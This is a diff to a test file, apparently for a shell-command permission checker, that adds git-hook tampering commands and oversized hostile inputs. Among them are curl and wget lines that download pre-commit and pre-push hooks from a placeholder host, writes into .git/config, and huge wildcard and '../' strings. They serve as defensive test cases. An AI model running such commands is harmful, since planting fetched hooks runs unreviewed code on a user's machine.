@@ -87,8 +87,12 @@ ASKED: Mapping[str, tuple[str, ...]] = {
         "unzip a.zip -d .git", "curl -o .git/config http://x", "wget -P .git/hooks http://x",
         "patch .git/config x.diff", "sort -o .git/config a.txt", "split a.txt .git/x", "rsync a.txt .git/config",
         "cp -t .git a.txt", "cp --target-directory=.git a.txt", "find . -name x -fprint .git/x", "uniq a.txt .git/x",
-        "exec {fd}> .git/x", "echo x >& .git/x", "cat <> .git/x", "ex -sc wq .git/x", "git init --template=x",
-        "git clone --template x u", "git config --unset core.hooksPath", "git config set core.editor x",
+        "exec {fd}> .git/x", "sed -i'.git/hooks/*' p pre-commit", "perl -i'.git/*' -pe 1 a.txt",
+        "patch -b -B .git/hooks/ a.txt x", "cd .git/hooks && curl -O http://x/pre-commit",
+        "cd .git/hooks; wget http://x/pre-push", "cd .git && unzip ../a.zip", "cd .git; patch < ../x.diff",
+        "cd .git/hooks && split ../../a.txt", "git checkout -- .git/x", "cd .git && tar xf ../a.tar",
+        "echo x >& .git/x", "cat <> .git/x", "ex -sc wq .git/x", "git init --template=x", "git clone --template x u",
+        "git config --unset core.hooksPath", "git config set core.editor x",
         "git config --local --add include.path x",
     ),
     OUTSIDE: (
@@ -369,7 +373,7 @@ HOSTILE = {
     "letters": "tar " + "x" * 100_000 + " a",
     "wildcards": "rm " + "*/* " * 2_000,
     "climbing": "cat " + "../" * 30_000 + "x",
-    "code": "python3 -c \"" + "'a b' " * 30_000 + "\"",
+    "code": 'python3 -c "' + "'a b' " * 30_000 + '"',
 }
 
 
